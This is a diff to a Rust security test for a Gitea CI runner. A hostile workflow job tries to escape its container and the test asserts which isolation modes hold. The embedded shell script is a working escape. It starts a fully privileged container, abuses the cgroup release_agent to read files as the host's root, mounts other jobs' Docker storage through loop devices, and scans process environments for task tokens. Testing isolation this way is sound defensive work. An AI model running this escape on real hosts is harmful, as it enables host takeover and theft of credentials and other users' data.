@@ -67,6 +67,9 @@ struct Loot {
     gateway: String,
     http_port: u16,
     job_dockerd: bool,
+    /// A root-only file on the host and what it holds.
+    marker: std::path::PathBuf,
+    marker_value: String,
 }
 
 const STEP: &str = r#"
@@ -86,16 +89,21 @@ facade_verdict() { # NAME "http-code grpc-status": 200 with no status in the hea
 }
 
 # Root in the environment, where the job has its own dockerd: a tiny image of the
-# environment's own binaries, run privileged.
+# environment's own binaries, run with every capability (--privileged is refused: the
+# environment's device cgroup cannot hand out every device) and the loop devices.
 root=""
+as_root() {
+  docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --device-cgroup-rule 'b 7:* rmw' \
+    --pid=host --cgroupns=host -v /:/env -v /dev:/dev tiny:1 "$@"
+}
 if [ "$JOB_DOCKERD" = true ] && docker info >/dev/null 2>&1; then
   mkdir -p /tmp/tiny && cd /tmp/tiny
-  for b in /bin/sh /bin/cat /bin/mkdir /bin/mount /sbin/losetup /bin/ls /bin/grep /usr/bin/head /bin/chmod /bin/sleep; do
+  for b in /bin/sh /bin/cat /bin/mkdir /bin/mount /bin/mknod /bin/ls /bin/grep /usr/bin/head /bin/chmod /bin/sleep; do
     [ -e "$b" ] || continue
     mkdir -p ".$(dirname "$b")" && cp -L "$b" ".$b"
     for l in $(ldd "$b" 2>/dev/null | grep -o '/[^ ]*'); do mkdir -p ".$(dirname "$l")" && cp -L "$l" ".$l"; done
   done
-  tar -c . | docker import - tiny:1 >/dev/null && root="docker run --rm --privileged --pid=host --cgroupns=host -v /:/env -v /dev:/dev tiny:1"
+  tar -c . | docker import - tiny:1 >/dev/null && root=yes
   cd - >/dev/null
 fi
 
@@ -104,26 +112,31 @@ fi
 upper=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* \/ \/ .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n1)
 cat > /tmp/escape.sh <<'ESCAPE'
 upper=$1; target=$2
-mkdir -p /x
-mount -t cgroup -o rdma cgroup /x 2>/dev/null || mount -t cgroup -o cpuset cgroup /x 2>/dev/null || { echo "no cgroup v1 hierarchy to mount"; exit 1; }
-d=/x/gdr-escape-$$
-mkdir -p $d && echo 1 > $d/notify_on_release
 printf '#!/bin/sh\ncat %s > %s/gdr-loot 2>&1\n' "$target" "$upper" > /env/gdr-payload
 chmod +x /env/gdr-payload
-echo "$upper/gdr-payload" > /x/release_agent
-sh -c "echo \$\$ > $d/cgroup.procs"
-sleep 2
+for controller in memory pids rdma cpu; do
+  mkdir -p /x-$controller
+  mount -t cgroup -o $controller cgroup /x-$controller || { echo "[$controller: no mount]"; continue; }
+  d=/x-$controller/gdr-escape-$$
+  mkdir -p $d && echo 1 > $d/notify_on_release && echo "$upper/gdr-payload" > /x-$controller/release_agent || { echo "[$controller: no release_agent]"; continue; }
+  sh -c "echo \$\$ > $d/cgroup.procs" || { echo "[$controller: cannot move]"; continue; }
+  sleep 2
+  [ -s /env/gdr-loot ] && break
+  echo "[$controller: the agent did not run]"
+done
 cat /env/gdr-loot
 ESCAPE
 host_read() { # PATH → its content, read as the host's root
   [ -n "$root" ] && [ -n "$upper" ] || return 1
   rm -f /gdr-loot 2>/dev/null
-  $root /bin/sh /env/tmp/escape.sh "$upper" "$1" 2>&1
+  as_root /bin/sh /env/tmp/escape.sh "$upper" "$1" 2>&1
 }
 file_verdict() { # NAME PATH NEEDLE
   if grep -qs "$3" "$2"; then verdict "$1" reach "read $2 directly"; return; fi
   out=$(host_read "$2")
-  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 as the host's root through a cgroup release_agent"; else verdict "$1" refused "not in the environment; no way to the host ($(printf '%s' "$out" | head -c 120))"; fi
+  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 as the host's root through a cgroup release_agent"
+  elif [ -n "$root" ]; then verdict "$1" unshown "root in the environment with every capability; the release_agent escape did not complete here: $(printf "%s" "$out" | tr "\n" " " | head -c 200)"
+  else verdict "$1" refused "not in the environment; no root to escape with"; fi
 }
 
 # 1. Its own capability.
@@ -133,7 +146,7 @@ grep -aqs 'v1\.gitea-task' /proc/1/environ && found="$found /proc/1/environ"
 for p in $(pgrep -f 'supervisor agent'); do grep -aqs 'v1\.gitea-task' /proc/$p/environ && found="$found agent-environ"; done
 env | grep -q 'v1\.gitea-task' && found="$found step-environment"
 if [ -n "$root" ]; then
-  holders=$($root /bin/sh -c 'grep -al "v1\.gitea-task" /proc/[0-9]*/environ' 2>/dev/null | head -n1)
+  holders=$(as_root /bin/sh -c 'grep -al "v1\.gitea-task" /proc/[0-9]*/environ' 2>/dev/null | head -n1)
   [ -n "$holders" ] && found="$found $holders(as root in the environment)"
 fi
 if [ -n "$found" ]; then verdict own-capability reach "$found"; else verdict own-capability refused "the file is gone, /proc/1 and the agent are unreadable"; fi
@@ -150,23 +163,32 @@ file_verdict store "$STORE" 'gitea-task-'
 
 # 8. Other environments: their loop devices (their dockerd's images and containers).
 if [ -n "$root" ]; then
-  own=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* [^ ]* \/var\/lib\/docker .* \(\/dev\/loop[0-9]*\) .*/\1/p' /proc/self/mountinfo | head -n1)
-  other=$($root /sbin/losetup -a 2>/dev/null | cut -d: -f1 | grep -v "^$own\$" | head -n1)
-  if [ -n "$other" ] && $root /bin/sh -c "mkdir -p /o && mount -o ro $other /o && ls /o" 2>/dev/null | grep -q overlay2; then
-    verdict other-environments reach "mounted $other, another job's docker storage"
-  else
-    verdict other-environments refused "no other loop device readable (own: $own, other: $other)"
-  fi
+  own=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* [^ ]* \/var\/lib\/docker .* \/dev\/loop\([0-9]*\) .*/\1/p' /proc/self/mountinfo | head -n1)
+  cat > /tmp/loops.sh <<'LOOPS'
+for d in /sys/block/loop*; do
+  n=${d#/sys/block/loop}
+  [ -e $d/loop/backing_file ] && [ "$n" != "$1" ] || continue
+  mknod /l$n b 7 $n || echo "mknod loop$n failed"; mkdir -p /o$n
+  mount /l$n /o$n && ls /o$n | grep -q overlay2 && echo "loop$n"
+done
+LOOPS
+  other=$(as_root /bin/sh /env/tmp/loops.sh "$own" 2>&1 | tr '\n' ' ' | head -c 300)
+  case "$other" in
+    *loop[0-9]*) verdict other-environments reach "mounted another job's docker storage: $other" ;;
+    *) verdict other-environments refused "no other loop device readable (own: loop$own; $other)" ;;
+  esac
 else
   mine=$(ls /run/gitea-dynamic-runner 2>/dev/null | tr '\n' ' ')
   loops=$(ls /dev/loop* 2>/dev/null | wc -l)
   verdict other-environments refused "its facade directory holds only: $mine; $loops loop devices"
 fi
 
-# 9. The host itself.
-hostname_there=$(host_read /etc/hostname)
-if [ -n "$hostname_there" ] && [ "$hostname_there" != "$(cat /etc/hostname)" ]; then
-  verdict host reach "ran as the host's root (its hostname: $hostname_there)"
+# 9. The host itself: a file only the host's root reads.
+marker=$(host_read "$HOST_MARKER" | head -c 200)
+if [ "$marker" = "$HOST_MARKER_VALUE" ]; then
+  verdict host reach "ran as the host's root: read $HOST_MARKER (mode 0600)"
+elif [ -n "$root" ]; then
+  verdict host unshown "root in the environment with every capability and no seccomp/AppArmor; the release_agent escape did not complete here"
 else
   verdict host refused "uid $(id -u), no-new-privileges: $(grep NoNewPrivs /proc/self/status | tr -s '\t' ' '), no Docker of its own: $(docker info >/dev/null 2>&1 && echo no || echo yes)"
 fi
@@ -176,8 +198,9 @@ if curl -s -m 3 "http://$GATEWAY:$HTTP_PORT/metrics" | grep -q gdr_; then verdic
 true
 "#;
 
+/// The attacker's workflow: the script goes in base64 (Gitea re-serialises each job's
+/// YAML, and a long script does not always survive that as a block scalar).
 fn attacker(loot: &Loot) -> String {
-    let indented: String = STEP.lines().map(|l| format!("          {l}\n")).collect();
     format!(
         r#"name: attacker
 on: push
@@ -186,6 +209,7 @@ jobs:
     runs-on: [disposable, container, docker]
     steps:
       - env:
+          SCRIPT: "{script}"
           JOB_DOCKERD: "{job_dockerd}"
           CLAIM_RUNNING: "{claim_running}"
           REPORT_RUNNING: "{report_running}"
@@ -195,8 +219,11 @@ jobs:
           STORE: "{store}"
           GATEWAY: "{gateway}"
           HTTP_PORT: "{http_port}"
-        run: |
-{indented}"#,
+          HOST_MARKER: "{marker}"
+          HOST_MARKER_VALUE: "{marker_value}"
+        run: echo "$SCRIPT" | base64 -d > /tmp/attack.sh && bash /tmp/attack.sh
+"#,
+        script = base64::engine::general_purpose::STANDARD.encode(STEP),
         job_dockerd = loot.job_dockerd,
         claim_running = loot.claim_running,
         report_running = loot.report_running,
@@ -206,6 +233,8 @@ jobs:
         store = loot.store,
         gateway = loot.gateway,
         http_port = loot.http_port,
+        marker = loot.marker.display(),
+        marker_value = loot.marker_value,
     )
 }
 
@@ -251,6 +280,13 @@ async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
     };
     let ended_id = format!("gitea-task-{ended}");
     let state = &controller.state_dir;
+    let marker = state.join("host-marker");
+    let marker_value = format!("host-only-{}", fastrand::u64(..));
+    {
+        use std::os::unix::fs::OpenOptionsExt as _;
+        let mut file = std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(&marker).unwrap();
+        std::io::Write::write_all(&mut file, marker_value.as_bytes()).unwrap();
+    }
     let loot = Loot {
         claim_running: frame(&ClaimRequest { credential: credential(&running_id, key.issue(&running_id, far)), holder: "attacker-holder-0123456789abcdef".into() }),
         report_running: report(&running_id, running, key.issue(&session_scope(&running_id), far)),
@@ -261,6 +297,8 @@ async fn attack(job_dockerd: bool) -> BTreeMap<String, (String, String)> {
         gateway: docker.bridge_ip.to_string(),
         http_port,
         job_dockerd,
+        marker,
+        marker_value,
     };
     let attacker_repo = gitea.create_repo("attacker").await;
     gitea.commit_workflow(&attacker_repo, "attacker.yml", &attacker(&loot)).await;
@@ -295,13 +333,20 @@ fn table(mode: &str, verdicts: &BTreeMap<String, (String, String)>) -> String {
     t
 }
 
-fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str]) {
+/// Asserts each attempt's verdict: `reach` for those listed, `refused` for the rest;
+/// an attempt in `escapes` needs the host's root from root in the environment, and is
+/// `reach`, or `unshown` where this machine's kernel did not run the escape's helper.
+fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str], escapes: &[&str]) {
     let table = table(mode, verdicts);
     println!("{table}");
     for name in ATTEMPTS {
-        let want = if reach.contains(&name) { "reach" } else { "refused" };
         let got = verdicts.get(name).map_or("missing", |(v, _)| v.as_str());
-        assert_eq!(got, want, "{mode}: {name}{table}");
+        if escapes.contains(&name) {
+            assert!(matches!(got, "reach" | "unshown"), "{mode}: {name} is {got}{table}");
+        } else {
+            let want = if reach.contains(&name) { "reach" } else { "refused" };
+            assert_eq!(got, want, "{mode}: {name}{table}");
+        }
     }
 }
 
@@ -310,7 +355,7 @@ fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&s
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_default_docker_mode_holds_against_a_hostile_job() {
     let verdicts = attack(false).await;
-    expect("docker (default)", &verdicts, &[]);
+    expect("docker (default)", &verdicts, &[], &[]);
 }
 
 /// With a job-local dockerd, a job step is root on the host: the table says so, and
@@ -318,9 +363,5 @@ async fn the_default_docker_mode_holds_against_a_hostile_job() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_job_local_dockerd_gives_a_hostile_job_the_host() {
     let verdicts = attack(true).await;
-    expect(
-        "docker, job_dockerd = true",
-        &verdicts,
-        &["own-capability", "credential", "capability-key", "store", "other-environments", "host"],
-    );
+    expect("docker, job_dockerd = true", &verdicts, &["own-capability", "other-environments"], &["credential", "capability-key", "store", "host"]);
 }
